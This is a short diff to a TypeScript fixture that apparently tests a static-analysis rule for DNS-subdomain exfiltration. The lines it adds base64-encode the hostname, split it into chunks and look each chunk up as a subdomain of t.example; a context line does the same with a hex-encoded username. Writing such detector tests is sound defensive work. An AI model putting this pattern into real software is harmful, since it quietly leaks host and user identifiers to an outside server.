@@ -15,5 +15,14 @@ export async function proxy(req: Request, res: Response): Promise<void> {
   await lookup(`${Buffer.from(os.userInfo().username).toString('hex')}.t.example`);
   // ok: js.exfil.dns-subdomain
   await lookup('example.com');
+  const label: string = Buffer.from(os.hostname()).toString('base64url');
+  const parts: string[] = label.match(/.{1,50}/g) ?? [];
+  for (const part of parts) {
+    // ruleid: js.exfil.dns-subdomain
+    await lookup(`${part}.t.example`);
+  }
+  const svc: string = (req.query.svc as string) ?? 'api';
+  // ok: js.exfil.dns-subdomain
+  await lookup(`${svc}.internal.example`);
   res.send([r.data, r2.data, s.data]);
 }
